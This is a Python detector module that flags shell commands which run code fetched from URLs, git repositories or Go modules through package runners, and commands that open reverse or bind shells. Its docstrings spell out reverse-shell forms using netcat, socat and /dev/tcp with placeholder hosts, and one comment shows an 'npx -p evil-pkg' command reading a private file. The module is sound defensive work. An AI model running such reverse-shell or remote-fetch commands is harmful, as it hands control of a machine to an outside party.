"""Package runners: programs that fetch code or read it from a file or stdin, then run it (issue 25, round 5).

``curl … | sh`` and ``bash x.sh`` have their own readers (:mod:`evaluation.verdicts.tier1.indirect`);
the same acts are spelled through the runners of package managers too:

* ``uv run x.py`` / ``uv run -``, ``deno run x.ts`` / ``deno run -``, ``bun run x.js`` / ``bun -``, ``pipx run
  x.py``: a local file or stdin, read as the interpreter it is (:func:`runner_target`);
* ``uv run https://…/x.py``, ``uvx --from git+https://…``, ``pipx run --spec git+…``, ``npx
  https://…/x.tgz`` (``bunx``, ``pnpm dlx``, ``yarn dlx``, ``npm exec``), ``deno run https://…``, ``go run
  host/module@version``: code fetched from a URL, a git repository or a module proxy, which Tier 1 never
  sees (:func:`remote_code`, opaque, hence blocked). A package NAME (``npx prettier``, ``uvx ruff``,
  ``pipx run black``) is the registry's everyday use and stays open; so do local paths (``go run
  ./cmd/x``).
"""
from __future__ import annotations

import re

from evaluation.verdicts.tier1.shell import SimpleCommand

_REMOTE = re.compile(r"^(?:[A-Za-z][A-Za-z0-9+.-]*://|git\+|git@|(?:github|gitlab|bitbucket|gist):)")
_GO_REMOTE = re.compile(r"^[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+/[^@\s]*(?:@\S+)?$")
_VALUE_OPTIONS = frozenset({
    "--with", "--with-requirements", "--with-editable", "-p", "--python", "--directory", "--project",
    "--env-file", "--extra", "--group", "--index", "--index-url", "--extra-index-url", "--package", "--from",
    "--spec", "--config", "-c", "--cwd", "--import-map", "--lock", "--location", "-r", "--reload",
    "--allow-read", "--allow-write", "--allow-net", "--allow-env", "--allow-run", "--inspect",
})
_NODE_EXEC = frozenset({"npx", "bunx", "pnpx", "pnpm", "yarn", "npm"})
_GITHUB_SHORTHAND = re.compile(r"^[A-Za-z0-9_][A-Za-z0-9_.-]{0,100}/[A-Za-z0-9_.-]{1,100}(?:#\S{0,200})?$")
_DENO_UNSANDBOXED = re.compile(r"^(?:-[a-zA-Z]{0,8}A[a-zA-Z]{0,8}|--allow-all|--allow-run|--allow-ffi|--allow-write|"
                               r"--allow-env|--allow-sys)$")
_SPEC_OPTIONS = ("--from", "--spec", "-p", "--package", "--with")
_PYTHON_RUNNERS = frozenset({"uv", "pipx", "poetry", "pdm", "rye", "hatch"})
_NODE_RUNNERS = frozenset({"deno", "bun", "tsx", "ts-node", "esno"})
_PACKAGE_EXEC = {"npx": (), "bunx": (), "uvx": (), "pnpx": (), "pnpm": ("dlx", "exec"), "yarn": ("dlx",),
                 "npm": ("exec", "x"), "uv": ("tool",), "pipx": ("run",), "deno": ("run", "install", "compile"),
                 "go": ("run",)}
# every program that runs another program it fetches or names (round 31: never a proven read, `npx -p evil-pkg
# marked -i ~/.hermes/SOUL.md -o build/x.html` runs evil-pkg)
PACKAGE_RUNNERS = frozenset(_PACKAGE_EXEC) | _PYTHON_RUNNERS | _NODE_RUNNERS


def _operands(argv: tuple[str, ...]) -> tuple[list[str], list[tuple[str, str]]]:
    """Operands of ``argv[1:]`` and the ``(option, value)`` pairs before them (options end at the first
    operand after the subcommand word(s): what follows belongs to the program run)."""
    operands: list[str] = []
    values: list[tuple[str, str]] = []
    words = list(argv[1:])
    i = 0
    while i < len(words):
        word = words[i]
        if operands and not word.startswith("-"):
            operands.append(word)
        elif word == "--":
            operands += words[i + 1:]
            break
        elif word.startswith("--") and "=" in word:
            name, value = word.split("=", 1)
            values.append((name, value))
        elif word in _VALUE_OPTIONS and i + 1 < len(words):
            values.append((word, words[i + 1]))
            i += 1
        elif not word.startswith("-") or word == "-":
            operands.append(word)
        i += 1
    return operands, values


def runner_target(command: SimpleCommand) -> tuple[str, str] | None:
    """``(operand, how)`` when a package runner runs a script file or stdin (``-``): ``uv run x.py`` →
    ``("x.py", "python3")``, ``bun run -`` → ``("-", "node")``; None otherwise."""
    program = command.program
    if program not in _PYTHON_RUNNERS and program not in _NODE_RUNNERS:
        return None
    operands, _ = _operands(command.argv)
    if operands[:1] == ["run"]:
        operands = operands[1:]
    elif program not in ("bun", "tsx", "ts-node", "esno"):
        return None
    if not operands or _REMOTE.match(operands[0]):
        return None
    target = operands[0]
    if program in _PYTHON_RUNNERS:
        return (target, "python3") if target == "-" or target.endswith(".py") else None
    return (target, "node") if target == "-" or target.endswith((".js", ".mjs", ".cjs", ".ts", ".mts")) else None


_NETCATS = frozenset({"nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "busybox"})
_NETCAT_EXEC = ("-e", "-c", "--exec", "--sh-exec", "--lua-exec")
_SOCAT_NET = re.compile(r"^(tcp|tcp4|tcp6|tcp-connect|tcp-listen|udp|udp-connect|udp-listen|openssl|ssl|"
                        r"openssl-connect|openssl-listen|sctp|socks4a?|proxy)[:-]", re.IGNORECASE)
_SOCAT_RUN = re.compile(r"^(exec|system)[:,]", re.IGNORECASE)
_INTERACTIVE_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "mksh"})


def network_shell(command: SimpleCommand) -> str | None:
    """Round 10: a program that runs commands the network sends — a reverse or bind shell. ``nc HOST PORT -e
    /bin/sh`` (``-c``, ``ncat --sh-exec``), ``socat tcp:HOST:PORT exec:sh``, a shell whose stdin or output is
    a ``/dev/tcp`` socket (``bash -i >& /dev/tcp/HOST/PORT 0>&1``): what it runs arrives at run time."""
    program, argv = command.program, command.argv
    if program in _NETCATS and any(a in _NETCAT_EXEC or a.startswith(tuple(o + "=" for o in _NETCAT_EXEC
                                                                           if o.startswith("--")))
                                   or (a.startswith("-") and not a.startswith("--") and len(a) > 2
                                       and a[-1] in "ec" and a[1:].isalpha()) for a in argv[1:]):
        return f"{program} runs a program whose input is a network connection (a remote shell)"
    if program == "socat":
        addresses = [a for a in argv[1:] if not a.startswith("-")]
        if any(_SOCAT_RUN.match(a) for a in addresses) and any(_SOCAT_NET.match(a) for a in addresses):
            return "socat joins a network connection to a program it runs (a remote shell)"
    if program in _INTERACTIVE_SHELLS and any(r.target.startswith(("/dev/tcp/", "/dev/udp/"))
                                              for r in command.redirects):
        return f"{program} reads or writes a network socket: it runs commands the network sends (a remote shell)"
    return None


def remote_code(command: SimpleCommand) -> str | None:
    """Why ``command`` runs code fetched from outside (a URL, a git repository, a Go module), or None."""
    program = command.program
    shell = network_shell(command)
    if shell is not None:
        return shell
    subcommands = _PACKAGE_EXEC.get(program)
    if subcommands is None:
        return None
    operands, values = _operands(command.argv)
    if program == "uv":  # `uv run URL`, `uv tool run|install [--from URL] SPEC`
        if operands[:1] == ["run"]:
            operands = operands[1:]
        elif operands[:1] == ["tool"] and operands[1:2] in (["run"], ["install"]):
            operands = operands[2:]
        else:
            return None
    elif subcommands:
        if not operands or operands[0] not in subcommands:
            return None
        operands = operands[1:]
    if program == "go":
        module = operands[0] if operands else ""
        if module.endswith(".go") or module.startswith((".", "/")) or not _GO_REMOTE.match(module):
            return None
        return f"go run {module!r} fetches a module and runs it, code Tier 1 never sees"
    specs = [value for option, value in values if option in _SPEC_OPTIONS] + operands[:1]
    remote = next((s for s in specs if _REMOTE.match(s)), None)
    if remote is None and program in _NODE_EXEC and specs:  # round 15: `npx owner/repo` is a GitHub repository
        remote = next((s for s in specs[-1:] if _GITHUB_SHORTHAND.match(s)), None)
    package = next((o for o in operands[:2] if o.startswith(("npm:", "jsr:"))), None) if program == "deno" else None
    if remote is None and package and not package.startswith("jsr:@std/") and any(
            _DENO_UNSANDBOXED.match(a) for a in command.argv[2:command.argv.index(package)]):
        # round 15: a package by name outside Deno's sandbox (`-A`, `--allow-run`, an unscoped `--allow-write`)
        return f"deno runs {package!r} with its sandbox off, code Tier 1 never sees"
    if remote is None:
        return None
    return f"{program} runs code fetched from {remote!r}, which Tier 1 never sees"
